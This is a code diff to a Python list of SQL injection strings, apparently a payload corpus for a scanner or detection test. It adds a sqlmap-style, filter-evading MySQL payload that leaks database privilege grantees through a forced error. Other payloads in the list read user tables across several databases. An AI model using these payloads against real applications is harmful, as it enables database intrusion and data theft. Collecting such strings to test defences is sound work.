@@ -34,6 +34,9 @@ SQLI = [
     "1 AND (SELECT FIRST 1 name FROM users)='a'",
     "(SELECT LIMIT 0 1 DISTINCT(user) FROM INFORMATION_SCHEMA.SYSTEM_USERS ORDER BY user)",  # HSQLDB
     "1 AND (SELECT SKIP 0 LIMIT 1 USERNAME FROM SYSUSERS ORDER BY USERNAME)='a'",  # Informix
+    # sqlmap --tamper=modsecurityversioned: MySQL reads five version digits, the rest is code ("/*!30274" "6561")
+    "blue',(SELECT /*!340173847 FROM (SELECT EXP(~(SELECT * FROM (SELECT CONCAT('qxzzq',(SELECT DISTINCT(grantee) "
+    "FROM INFORMATION_SCHEMA.USER_PRIVILEGES LIMIT 0,1),'qxppq','x'))x)))s)*/-- fBxy",
     # a value between two concatenations the application's query completes ("'x'+<value>+'y'")
     "smith+(SELECT 'pHHu' WHERE 7972=7972 AND 1328 IN (SELECT ('qxzzq'+(SELECT (CASE WHEN (1328=1328) THEN '1' ELSE "
     "'0' END))+'qxppq')))+",
